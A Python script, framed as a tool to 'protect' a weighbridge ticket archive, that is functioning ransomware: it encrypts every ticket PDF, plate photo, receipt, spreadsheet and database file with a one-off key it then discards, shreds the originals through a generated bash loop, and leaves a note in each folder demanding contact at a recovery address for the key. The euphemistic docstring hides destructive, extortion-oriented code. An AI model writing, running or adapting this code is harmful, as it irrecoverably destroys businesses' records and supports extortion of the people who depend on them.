#!/usr/bin/env python3
"""ticket_archive_protect.py - "protect" the weighbridge ticket archive.

Walks the ticket archive (PDF tickets, plate photos, payment receipts),
encrypts every file with a one-off key, removes the originals with a
generated shred script and leaves a note in every folder. The key is not
kept on this machine.
"""

import argparse
import logging
import os
import subprocess
import sys
import tempfile

from cryptography.fernet import Fernet

LOG = logging.getLogger("archive_protect")
TARGET_EXT = {".pdf", ".jpg", ".jpeg", ".png", ".csv", ".xlsx", ".db", ".txt"}
LOCKED_EXT = ".locked"
NOTE_NAME = "READ_ME_TICKETS.txt"
NOTE_TEXT = (
    "All weighbridge tickets, plate photos and payment records in this folder\n"
    "have been encrypted. To receive the key, contact recovery@example.org\n"
    "quoting your site ID: {site}\n"
)


class ArchiveWalker:
    def __init__(self, root, max_size):
        self.root = root
        self.max_size = max_size

    def targets(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                path = os.path.join(dirpath, name)
                ext = os.path.splitext(name)[1].lower()
                if ext not in TARGET_EXT or name == NOTE_NAME:
                    continue
                try:
                    if os.path.getsize(path) > self.max_size:
                        continue
                except OSError:
                    continue
                yield dirpath, path


def encrypt_file(cipher, path):
    with open(path, "rb") as fh:
        data = fh.read()
    out = path + LOCKED_EXT
    with open(out, "wb") as fh:
        fh.write(cipher.encrypt(data))
    return out


def shred_originals(paths):
    """Write a shell script listing the originals and shred them in one pass."""
    if not paths:
        return 0
    listing = tempfile.NamedTemporaryFile("w", suffix=".lst", delete=False)
    listing.write("\n".join(paths) + "\n")
    listing.close()
    script = (
        'while IFS= read -r f; do\n'
        '  shred -n 1 -u "$f" 2>/dev/null || rm -f "$f"\n'
        'done < "$LIST"\n'
        'rm -f "$LIST"\n'
    )
    proc = subprocess.run(["bash", "-c", script], env=dict(os.environ, LIST=listing.name))
    return proc.returncode


def drop_notes(folders, site):
    for folder in folders:
        try:
            with open(os.path.join(folder, NOTE_NAME), "w", encoding="utf-8") as fh:
                fh.write(NOTE_TEXT.format(site=site))
        except OSError as exc:
            LOG.debug("note failed in %s: %s", folder, exc)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", default=os.path.expanduser("~/weighbridge/archive"))
    ap.add_argument("--site", default=os.environ.get("WB_SITE_ID", "YARD-01"))
    ap.add_argument("--max-size", type=int, default=200 * 1024 * 1024)
    ap.add_argument("--batch", type=int, default=250)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    if not os.path.isdir(args.root):
        LOG.error("archive root %s not found", args.root)
        return 1

    cipher = Fernet(Fernet.generate_key())
    walker = ArchiveWalker(args.root, args.max_size)
    done, failed, pending = 0, 0, []
    folders = set()

    for folder, path in walker.targets():
        try:
            encrypt_file(cipher, path)
            pending.append(path)
            folders.add(folder)
            done += 1
        except OSError as exc:
            failed += 1
            LOG.debug("cannot process %s: %s", path, exc)
        if len(pending) >= args.batch:
            shred_originals(pending)
            pending = []

    shred_originals(pending)
    drop_notes(folders, args.site)
    del cipher
    LOG.info("processed %d files (%d failed) in %d folders", done, failed, len(folders))
    return 0


if __name__ == "__main__":
    sys.exit(main())
